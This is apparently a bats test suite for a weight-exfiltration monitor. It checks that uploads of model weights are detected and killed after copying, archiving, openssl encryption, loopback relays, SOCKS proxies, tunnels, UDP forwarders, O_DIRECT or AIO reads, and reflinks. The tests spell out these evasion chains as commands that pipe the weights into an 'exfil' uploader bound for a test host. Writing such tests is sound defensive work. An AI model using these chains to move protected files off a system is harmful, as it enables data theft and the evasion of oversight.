#!/usr/bin/env bats
# Propagation (issue 10): bytes of the weights followed through derived files
# (copies, archives, encryptions, copies of copies) and local relays, to an
# upload by a process that never touched the weights. Every path is tested in
# monitor and in enforce mode, and every alert must name the original weight
# file in taint.sources and each hop in taint.chain.

load ../lib/harness

setup() { vigil_setup; }
teardown() {
	if mountpoint -q "$T/bind" 2>/dev/null; then umount "$T/bind"; fi
	if mountpoint -q "$T/xfs" 2>/dev/null; then umount "$T/xfs"; fi
	vigil_teardown
}

BUDGET=$((1 << 20))

# upload FILE MODE: a fresh process sends FILE to the test host; monitor: it
# all arrives and is alerted; enforce: it connects, and is killed at the
# budget (or first by a chain rule), critical. Sets status like leak.
upload() {
	leak --src "$1" --host "$PEER4" --port "$PORT"
	if [ "$2" = enforce ]; then
		# killed at the budget, or first by a chain rule
		# (weights-encrypt-then-send sees openssl in the chain)
		[ "$status" -eq 137 ]
		[ "$(sink_bytes)" -le "$BUDGET" ]
		run alert_wait action=killed severity=critical mode=enforce \
			taint.sources.0.path="$W/model.safetensors" "${@:3}"
	else
		[ "$status" -eq 0 ]
		[ "$(sink_bytes)" -eq "$(stat -c %s "$1")" ]
		run alert_wait rule=weights-egress action=alert mode=monitor \
			taint.sources.0.path="$W/model.safetensors" "${@:3}"
	fi
	[ "$status" -eq 0 ]
	# the copy is never named as a source
	run alert_none kind=alert taint.sources.*.path~"$T/stash"
	[ "$status" -eq 0 ]
}

# copies of copies, the first deleted before the upload
copy_chain() {
	start_sink tcp
	start_agent --mode "$1"
	mkdir "$T/stash"
	run in_cg cp "$W/model.safetensors" "$T/stash/a.bin"
	[ "$status" -eq 0 ]
	sleep 0.3
	run in_cg cp "$T/stash/a.bin" "$T/stash/b.bin"
	[ "$status" -eq 0 ]
	rm "$T/stash/a.bin"
	sleep 0.3
	upload "$T/stash/b.bin" "$1" process.cmdline~b.bin \
		taint.chain.0.via=read taint.chain.0.comm=cp \
		taint.chain.1.via=file taint.chain.1.comm=cp taint.chain.1.path="$T/stash/a.bin" \
		taint.chain.2.via=file taint.chain.2.path="$T/stash/b.bin" taint.depth=2 \
		taint.sources.0.bytes_read'>='4194304
	stop_agent
	[ "$(alert_get agent.copies_protected kind=agent_stop)" -ge 2 ]
	[ "$(alert_get agent.copy_origins_dropped kind=agent_stop)" -eq 0 ]
}

@test "propagate: monitor: a copy of a deleted copy names the weights and both hops" {
	copy_chain monitor
}

@test "propagate: enforce: a copy of a deleted copy is killed at the budget, named by the weights" {
	copy_chain enforce
}

# tar czf: tar reads the weights, gzip (its child, fed through a pipe) writes
tar_chain() {
	start_sink tcp
	start_agent --mode "$1"
	mkdir "$T/stash"
	run in_cg tar -C "$W" -czf "$T/stash/w.tgz" model.safetensors
	[ "$status" -eq 0 ]
	sleep 0.3
	upload "$T/stash/w.tgz" "$1" process.cmdline~w.tgz taint.chain.0.via=read \
		taint.chain.*.path="$T/stash/w.tgz" taint.chain.*.via=file
}

@test "propagate: monitor: an upload of a tar czf archive names the weights" {
	tar_chain monitor
}

@test "propagate: enforce: an upload of a tar czf archive is killed at the budget, named by the weights" {
	tar_chain enforce
}

openssl_chain() {
	start_sink tcp
	start_agent --mode "$1"
	mkdir "$T/stash"
	run in_cg openssl enc -aes-256-ctr -pbkdf2 -pass pass:not-a-secret \
		-in "$W/model.safetensors" -out "$T/stash/w.enc"
	[ "$status" -eq 0 ]
	sleep 0.3
	upload "$T/stash/w.enc" "$1" process.cmdline~w.enc \
		taint.chain.0.via=read taint.chain.0.comm=openssl \
		taint.chain.1.via=file taint.chain.1.path="$T/stash/w.enc"
}

@test "propagate: monitor: an upload of an openssl-encrypted copy names the weights" {
	openssl_chain monitor
}

@test "propagate: enforce: an upload of an openssl-encrypted copy is killed, named by the weights" {
	openssl_chain enforce
}

# ---- local relays ---------------------------------------------------------

# relay_run KIND LHOST MODE [relay args]: a relay on LHOST forwards to the test
# host; a tainted process sends it the weights. Sets relay_rc.
relay_run() {
	local kind="$1" lhost="$2" mode="$3"
	shift 3
	RELAY_PROTO=tcp
	[ "$kind" = udp ] && RELAY_PROTO=udp
	start_sink "$RELAY_PROTO"
	start_agent --mode "$mode" ${RELAY_AGENT_ARGS:-}
	LPORT=$((PORT + 2000))
	in_cg python3 "$SCEN/relay.py" "$kind" "$lhost" "$LPORT" "$PEER4" "$PORT" \
		"$T/relay.ready" "$@" > "$T/relay.out" &
	local relay=$!
	for _ in $(seq 100); do [ -e "$T/relay.ready" ] && break; sleep 0.05; done
	if [ "$kind" = udp ]; then
		leak --src "$W/model.safetensors" --host "$lhost" --port "$LPORT" --udp \
			--chunk 1400 --pace 0.0002
	elif [ "$kind" = socks ]; then
		run in_cg python3 "$SCEN/relay.py" socks-client "$W/model.safetensors" \
			"$lhost" "$LPORT" "$PEER4" "$PORT"
	else
		leak --src "$W/model.safetensors" --host "$lhost" --port "$LPORT"
	fi
	# wait in this shell: a relay killed early is already reaped
	relay_rc=0
	wait "$relay" || relay_rc=$?
}

# relay_check KIND MODE: what must hold after relay_run
relay_check() {
	local kind="$1" mode="$2" got
	got="$(sink_bytes "$PORT" "$RELAY_PROTO")"
	if [ "$mode" = enforce ]; then
		[ "$relay_rc" -ne 0 ]
		[ "$got" -le "$BUDGET" ]
		run alert_wait mode=enforce process.cmdline~relay.py \
			taint.sources.0.path="$W/model.safetensors" \
			taint.chain.0.via=read taint.chain.1.via=loopback taint.depth=1
		[ "$status" -eq 0 ]
		run alert_wait mode=enforce process.cmdline~relay.py action~e
		[ "$status" -eq 0 ]
		figure "relay ($kind) bytes past the relay, enforce" "$got"
	else
		[ "$relay_rc" -eq 0 ]
		if [ "$RELAY_PROTO" = tcp ]; then
			[ "$got" -eq $((4 << 20)) ]
		fi
		run alert_wait rule=weights-egress mode=monitor process.cmdline~relay.py \
			taint.sources.0.path="$W/model.safetensors" \
			taint.chain.0.via=read taint.chain.0.comm=python3 \
			taint.chain.1.via=loopback network.daddr="$PEER4" network.dport="$PORT"
		[ "$status" -eq 0 ]
		run alert_wait rule=weights-egress-budget mode=monitor process.cmdline~relay.py
		[ "$status" -eq 0 ]
	fi
	# the relay's loopback leg itself is never egress
	run alert_none kind=alert network.dport="$LPORT"
	[ "$status" -eq 0 ]
}

@test "propagate: monitor: a TCP relay on 127.0.0.1 is tainted by what it receives" {
	relay_run tcp 127.0.0.1 monitor
	relay_check tcp monitor
}

@test "propagate: enforce: a TCP relay on 127.0.0.1 is stopped at the budget" {
	relay_run tcp 127.0.0.1 enforce
	relay_check tcp enforce
}

@test "propagate: monitor: a TCP relay on the host's own address is tainted" {
	relay_run tcp "$HOST4" monitor
	relay_check tcp monitor
}

@test "propagate: enforce: a TCP relay on the host's own address is stopped at the budget" {
	relay_run tcp "$HOST4" enforce
	relay_check tcp enforce
}

@test "propagate: monitor: a dual-stack TCP relay reached over ::1 is tainted" {
	relay_run tcp ::1 monitor --connect-late
	relay_check tcp monitor
}

@test "propagate: enforce: a relay connecting out after the handoff is stopped at the budget" {
	relay_run tcp ::1 enforce --connect-late
	relay_check tcp enforce
}

# a SOCKS5 proxy on loopback: the destination is the client's choice, the
# proxy connects there after the handshake
@test "propagate: monitor: a SOCKS5 proxy on 127.0.0.1 is tainted by what it relays" {
	relay_run socks 127.0.0.1 monitor
	relay_check socks monitor
}

@test "propagate: enforce: a SOCKS5 proxy on 127.0.0.1 is stopped at the budget" {
	relay_run socks 127.0.0.1 enforce
	relay_check socks enforce
}

# an ssh -L / stunnel-shaped tunnel: what leaves is ciphertext of the weights
@test "propagate: monitor: an enciphering tunnel (ssh -L shape) on 127.0.0.1 is tainted" {
	relay_run tunnel 127.0.0.1 monitor
	relay_check tunnel monitor
}

@test "propagate: enforce: an enciphering tunnel (ssh -L shape) on 127.0.0.1 is stopped at the budget" {
	relay_run tunnel 127.0.0.1 enforce
	relay_check tunnel enforce
}

@test "propagate: monitor: a UDP forwarder (DNS-stub shape) is tainted" {
	relay_run udp 127.0.0.1 monitor
	relay_check udp monitor
}

@test "propagate: enforce: a UDP forwarder (DNS-stub shape) is stopped" {
	relay_run udp 127.0.0.1 enforce
	relay_check udp enforce
}

# a tainted process sends a relay only N bytes (a health check, a log line)
small_send() {
	local mode="$1" n="$2"
	shift 2
	start_sink tcp
	start_agent --mode "$mode" "$@"
	LPORT=$((PORT + 2000))
	in_cg python3 "$SCEN/relay.py" tcp 127.0.0.1 "$LPORT" "$PEER4" "$PORT" \
		"$T/relay.ready" > "$T/relay.out" &
	local relay=$!
	for _ in $(seq 100); do [ -e "$T/relay.ready" ] && break; sleep 0.05; done
	run in_cg python3 "$SCEN/relay.py" send-some "$W/model.safetensors" 127.0.0.1 "$LPORT" "$n"
	[ "$status" -eq 0 ]
	relay_rc=0
	wait "$relay" || relay_rc=$?
}

@test "propagate: monitor: a health check from a tainted process taints nobody (by bytes, not contact)" {
	small_send monitor 4096
	[ "$relay_rc" -eq 0 ]
	[ "$(sink_bytes)" -eq 4096 ]
	stop_agent
	run alert_none kind=alert process.cmdline~relay.py
	[ "$status" -eq 0 ]
}

@test "propagate: enforce: a health check from a tainted process taints nobody and passes" {
	small_send enforce 4096
	[ "$relay_rc" -eq 0 ]
	[ "$(sink_bytes)" -eq 4096 ]
	stop_agent
	run alert_none kind=alert process.cmdline~relay.py
	[ "$status" -eq 0 ]
}

@test "propagate: monitor: --relay-min-bytes lowers the threshold: the same 4 KiB taints" {
	small_send monitor 4096 --relay-min-bytes 1KiB
	[ "$relay_rc" -eq 0 ]
	run alert_wait rule=weights-egress process.cmdline~relay.py taint.chain.1.via=loopback \
		taint.sources.0.path="$W/model.safetensors"
	[ "$status" -eq 0 ]
}

# ---- other read paths -----------------------------------------------------

# piped_upload MODE WRITER...: WRITER (a command) puts the weights on its
# stdout, an uploader in the same pipeline sends what it reads to the test
# host: monitor — all 4 MiB arrive and the uploader is alerted, tainted via
# pipe; enforce — it is stopped at the budget
piped_upload() {
	local mode="$1" flags="--stdin"
	shift
	[ "$mode" = enforce ] && flags="--connect-first --stdin"
	start_sink tcp
	start_agent --mode "$mode"
	run in_cg env EXFIL="$EXFIL" FLAGS="$flags" HOST="$PEER4" DPORT="$PORT" \
		sh -c '"$@" | python3 "$EXFIL" $FLAGS --host "$HOST" --port "$DPORT"' sh "$@"
	if [ "$mode" = enforce ]; then
		[ "$status" -eq 137 ] || [ "$status" -eq 3 ]
		[ "$(sink_bytes)" -le "$BUDGET" ]
		run alert_wait mode=enforce taint.sources.0.path="$W/model.safetensors" \
			taint.chain.1.via=pipe action~e
	else
		[ "$status" -eq 0 ]
		[ "$(sink_bytes)" -eq $((4 << 20)) ]
		run alert_wait rule=weights-egress taint.sources.0.path="$W/model.safetensors" \
			taint.chain.1.via=pipe
	fi
	[ "$status" -eq 0 ]
}

@test "propagate: monitor: O_DIRECT reads taint (dd iflag=direct | uploader)" {
	require_capability direct
	piped_upload monitor dd if="$W/model.safetensors" iflag=direct bs=1M status=none
	run alert_wait rule=weights-egress taint.sources.0.path="$W/model.safetensors" \
		taint.sources.0.bytes_read'>='4194304 taint.chain.0.comm=dd taint.chain.0.via=read \
		taint.chain.1.via=pipe
	[ "$status" -eq 0 ]
}

@test "propagate: enforce: O_DIRECT reads taint: the uploader is stopped" {
	require_capability direct
	piped_upload enforce dd if="$W/model.safetensors" iflag=direct bs=1M status=none
	run alert_wait mode=enforce taint.sources.0.path="$W/model.safetensors" \
		taint.chain.0.comm=dd taint.chain.1.via=pipe action~e
	[ "$status" -eq 0 ]
}

# writev(2) whose iovec array is on a page the writer never touched (a
# fresh mapping of a scratch file): the probe read at the syscall's entry
# fails, so vigil cannot read how much the call writes. It fails closed:
# the pipe's reader is tainted as if the threshold of weights had passed.
@test "propagate: monitor: a writev whose iovecs vigil cannot read still taints the pipe's reader" {
	piped_upload monitor python3 "$SCEN/writev_unread.py" "$W/model.safetensors" -
}

@test "propagate: enforce: a writev whose iovecs vigil cannot read still taints the pipe's reader: stopped at the budget" {
	piped_upload enforce python3 "$SCEN/writev_unread.py" "$W/model.safetensors" -
}

# Linux native AIO with O_DIRECT (libaio's io_submit, as databases and some
# checkpoint loaders read): no read() syscall at all
@test "propagate: monitor: AIO (io_submit) O_DIRECT reads taint the reader" {
	require_capability direct
	piped_upload monitor python3 "$SCEN/aio_read.py" "$W/model.safetensors"
	run alert_wait rule=weights-egress taint.sources.0.path="$W/model.safetensors" \
		taint.sources.0.bytes_read'>='4194304 taint.chain.0.via=read \
		taint.chain.0.comm=python3 taint.chain.1.via=pipe
	[ "$status" -eq 0 ]
}

@test "propagate: enforce: AIO (io_submit) O_DIRECT reads taint: the uploader is stopped" {
	require_capability direct
	piped_upload enforce python3 "$SCEN/aio_read.py" "$W/model.safetensors"
}

@test "propagate: monitor: an O_DIRECT read through a bind mount taints (the real inode)" {
	require_capability direct
	start_sink tcp
	mkdir "$T/bind"
	mount --bind "$W" "$T/bind"
	start_agent --mode monitor
	run in_cg sh -c 'dd if="$1" iflag=direct bs=1M status=none | python3 "$2" --stdin --host "$3" --port "$4"' \
		sh "$T/bind/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
	umount "$T/bind"
	[ "$status" -eq 0 ]
	run alert_wait rule=weights-egress taint.sources.0.path="$W/model.safetensors" \
		taint.chain.0.comm=dd
	[ "$status" -eq 0 ]
}

# ---- reflinks and copy offloads ---------------------------------------------

# xfs_setup: an XFS with reflink=1 on a loop device at $T/xfs, the weights
# copied into $T/xfs/w (protected by the agent's --protect "$XW/**")
xfs_setup() {
	command -v mkfs.xfs >/dev/null || skip "mkfs.xfs missing (scripts/deps.sh installs xfsprogs)"
	grep -qw xfs /proc/filesystems || modprobe xfs 2>/dev/null ||
		skip "this kernel has no XFS (reflinks need XFS or btrfs)"
	truncate -s 512M "$T/xfs.img"
	mkfs.xfs -q -m reflink=1 "$T/xfs.img"
	mkdir -p "$T/xfs"
	mount -o loop "$T/xfs.img" "$T/xfs" || skip "cannot loop-mount an XFS image here"
	XW="$T/xfs/w"
	mkdir "$XW" "$T/xfs/stash"
	cp "$W/model.safetensors" "$XW/model.safetensors"
	sync
}

# reflink_upload MODE HOW: HOW = ficlone (cp --reflink=always) or cfr
# (copy_file_range, a remap on XFS) from the protected file to a new file by
# one process, uploaded by another; ficlonerange and cfr-unread: an
# ioctl(FICLONERANGE) / copy_file_range whose argument in user memory vigil
# cannot read at the call's entry (a page never touched): it fails closed,
# the copy is still the weights' (a whole-file copy of a protected file the
# caller holds open)
reflink_upload() {
	local mode="$1" how="$2" got
	xfs_setup
	start_sink tcp
	start_agent --mode "$mode" --protect "$XW/**"
	if [ "$how" = ficlone ]; then
		run in_cg cp --reflink=always "$XW/model.safetensors" "$T/xfs/stash/c.bin"
	elif [ "$how" != cfr ]; then	# ficlonerange, cfr-unread: tests/scenarios/clone_unread.py
		run in_cg python3 "$SCEN/clone_unread.py" "${how%-unread}" "$XW/model.safetensors" \
			"$T/xfs/stash/c.bin"
	else
		run in_cg python3 -c 'import os, sys
s = os.open(sys.argv[1], os.O_RDONLY); d = os.open(sys.argv[2], os.O_WRONLY | os.O_CREAT, 0o644)
n = os.fstat(s).st_size
while n > 0:
    k = os.copy_file_range(s, d, n)
    if k <= 0: break
    n -= k' "$XW/model.safetensors" "$T/xfs/stash/c.bin"
	fi
	[ "$status" -eq 0 ]
	# the reflink really happened: the copy's extents are shared
	filefrag -v "$T/xfs/stash/c.bin" | grep -q shared
	cmp "$XW/model.safetensors" "$T/xfs/stash/c.bin"
	leak --src "$T/xfs/stash/c.bin" --host "$PEER4" --port "$PORT"
	got="$(sink_bytes)"
	if [ "$mode" = enforce ]; then
		[ "$status" -eq 137 ]
		[ "$got" -le "$BUDGET" ]
		run alert_wait action=killed mode=enforce process.cmdline~c.bin \
			taint.sources.0.path="$XW/model.safetensors" \
			taint.chain.0.via=read taint.chain.1.via=file \
			taint.chain.1.path="$T/xfs/stash/c.bin"
	else
		[ "$status" -eq 0 ]
		[ "$got" -eq $((4 << 20)) ]
		run alert_wait rule=weights-egress mode=monitor process.cmdline~c.bin \
			taint.sources.0.path="$XW/model.safetensors" \
			taint.chain.0.via=read taint.chain.1.via=file \
			taint.chain.1.path="$T/xfs/stash/c.bin"
	fi
	[ "$status" -eq 0 ]
	run alert_none kind=alert taint.sources.*.path~"$T/xfs/stash"
	[ "$status" -eq 0 ]
}

@test "propagate: monitor: a reflink (cp --reflink=always, FICLONE) names the weights" {
	reflink_upload monitor ficlone
	[ "$(alert_get taint.chain.0.comm rule=weights-egress)" = cp ]
}

@test "propagate: enforce: an upload of a reflink is killed at the budget, named by the weights" {
	reflink_upload enforce ficlone
}

@test "propagate: monitor: a copy_file_range remap (XFS) names the weights" {
	reflink_upload monitor cfr
}

@test "propagate: enforce: a FICLONERANGE whose argument vigil cannot read still makes the clone a copy: its upload is killed" {
	reflink_upload enforce ficlonerange
}

@test "propagate: monitor: a copy_file_range whose offset vigil cannot read still makes the remap a copy" {
	reflink_upload monitor cfr-unread
}

# ---- read coverage ----------------------------------------------------------

@test "propagate: monitor: an alert says how much of the file was read" {
	start_sink tcp
	start_agent --mode monitor
	run in_cg sh -c 'head -c 2097152 "$1" | python3 "$2" --stdin --host "$3" --port "$4"' \
		sh "$W/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
	[ "$status" -eq 0 ]
	run alert_wait rule=weights-egress taint.sources.0.path="$W/model.safetensors" \
		taint.sources.0.size=4194304 taint.sources.0.read_pct'>='45 \
		taint.sources.0.read_pct'<='60 taint.chain.0.comm=head
	[ "$status" -eq 0 ]
	pct="$(alert_get taint.sources.0.read_pct rule=weights-egress)"
	run alert_wait rule=weights-egress message~"model.safetensors ($pct% of it read)"
	[ "$status" -eq 0 ]
	figure "read coverage of a 2 MiB head of a 4 MiB file (%)" "$pct"
}

@test "propagate: enforce: a whole read says 100%" {
	start_sink tcp
	start_agent --mode enforce
	leak --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 137 ]
	run alert_wait action=killed taint.sources.0.read_pct=100 \
		message~"(100% of it read)"
	[ "$status" -eq 0 ]
}

# a taint crossing a relay is a race (the sender's packets, the relay's next
# send); repeated, with CPU load beside it (in the test cgroup: teardown
# kills it), the receiver never gets more than the budget over all rounds,
# and every round's relay is stopped and named by the weights
# The threshold a local mark needs before it taints its reader (64 KiB)
# is what a fresh reader could forward untainted; once a set's budget has
# less than that left, its marks taint at the first byte.
@test "propagate: enforce: once the budget is spent, a relay or a pipe reader given less than the threshold is stopped too" {
	start_sink tcp
	start_agent --mode enforce
	leak --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"	# spends it
	[ "$status" -ne 0 ]
	local spent got
	spent="$(sink_bytes)"
	[ "$spent" -le "$BUDGET" ]
	# a relay that gets 32 KiB of the weights (under the threshold)
	LPORT=$((PORT + 2000))
	in_cg python3 "$SCEN/relay.py" tcp 127.0.0.1 "$LPORT" "$PEER4" "$PORT" \
		"$T/relay.ready" > "$T/relay.out" &
	local relay=$! relay_rc=0
	for _ in $(seq 100); do [ -e "$T/relay.ready" ] && break; sleep 0.05; done
	run in_cg timeout 60 python3 "$SCEN/relay.py" send-some "$W/model.safetensors" 127.0.0.1 "$LPORT" 32768
	wait "$relay" || relay_rc=$?
	[ "$relay_rc" -ne 0 ]
	# a pipe reader that gets the last 32 KiB of them (tensor data)
	run in_cg timeout 60 sh -c 'tail -c 32768 "$1" | python3 "$2" --stdin --host "$3" --port "$4"' \
		sh "$W/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
	[ "$status" -ne 0 ]
	got="$(sink_bytes)"
	figure "a relay and a pipe reader given 32 KiB each after the budget was spent: bytes at the sink (budget $BUDGET, spent $spent)" "$got"
	[ "$got" -eq "$spent" ]
	run alert_wait mode=enforce process.cmdline~relay.py taint.chain.1.via=loopback action~e
	[ "$status" -eq 0 ]
	run alert_wait mode=enforce process.cmdline~exfil.py taint.chain.1.via=pipe action~e
	[ "$status" -eq 0 ]
}

# UDP relay marks are named by port alone (every tainted job's DNS query to
# a local stub adds to one): they keep the full threshold when a budget runs
# low, so the host's stub is not tainted by queries and its lookups go on.
@test "propagate: enforce: once the budget is spent, a tainted job's small datagrams to a local UDP stub do not taint it" {
	start_sink udp
	start_agent --mode enforce
	leak --src "$W/model.safetensors" --host "$PEER4" --port "$PORT" --udp	# spends it
	local before got
	before="$(sink_bytes "$PORT" udp)"
	LPORT=$((PORT + 2000))
	in_cg python3 "$SCEN/relay.py" udp 127.0.0.1 "$LPORT" "$PEER4" "$PORT" \
		"$T/relay.ready" > "$T/relay.out" &
	local relay=$! relay_rc=0
	for _ in $(seq 100); do [ -e "$T/relay.ready" ] && break; sleep 0.05; done
	run in_cg timeout 60 python3 "$SCEN/relay.py" send-some "$W/model.safetensors" 127.0.0.1 "$LPORT" 100 --udp
	wait "$relay" || relay_rc=$?
	[ "$relay_rc" -eq 0 ]
	got="$(sink_bytes "$PORT" udp)"
	[ "$got" -gt "$before" ]
	run alert_none kind=alert process.cmdline~"relay.py udp"
	[ "$status" -eq 0 ]
}

@test "propagate: enforce: a relay, five times under CPU load, never passes the budget" {
	start_sink tcp
	start_agent --mode enforce
	local burn=() round relay
	for _ in 1 2; do in_cg sh -c 'while :; do :; done' & burn+=($!); done
	LPORT=$((PORT + 2000))
	for round in 1 2 3 4 5; do
		rm -f "$T/relay.ready"
		in_cg python3 "$SCEN/relay.py" tcp 127.0.0.1 "$LPORT" "$PEER4" "$PORT" \
			"$T/relay.ready" > "$T/relay.out" &
		relay=$!
		for _ in $(seq 100); do [ -e "$T/relay.ready" ] && break; sleep 0.05; done
		leak --src "$W/model.safetensors" --host 127.0.0.1 --port "$LPORT"
		relay_rc=0
		wait "$relay" || relay_rc=$?
		[ "$relay_rc" -ne 0 ]
	done
	kill "${burn[@]}"
	# the budget is per set over the agent's life: all five rounds together
	got="$(sink_bytes)"
	figure "relay x5 under CPU load: bytes past the relays (budget $BUDGET)" "$got"
	[ "$got" -le "$BUDGET" ]
	stop_agent
	n="$(alert_distinct process.pid kind=alert process.cmdline~relay.py \
		action=~'^(blocked|killed)$' taint.chain.1.via=loopback taint.sources.0.path="$W/model.safetensors")"
	[ "$n" -eq 5 ]
}
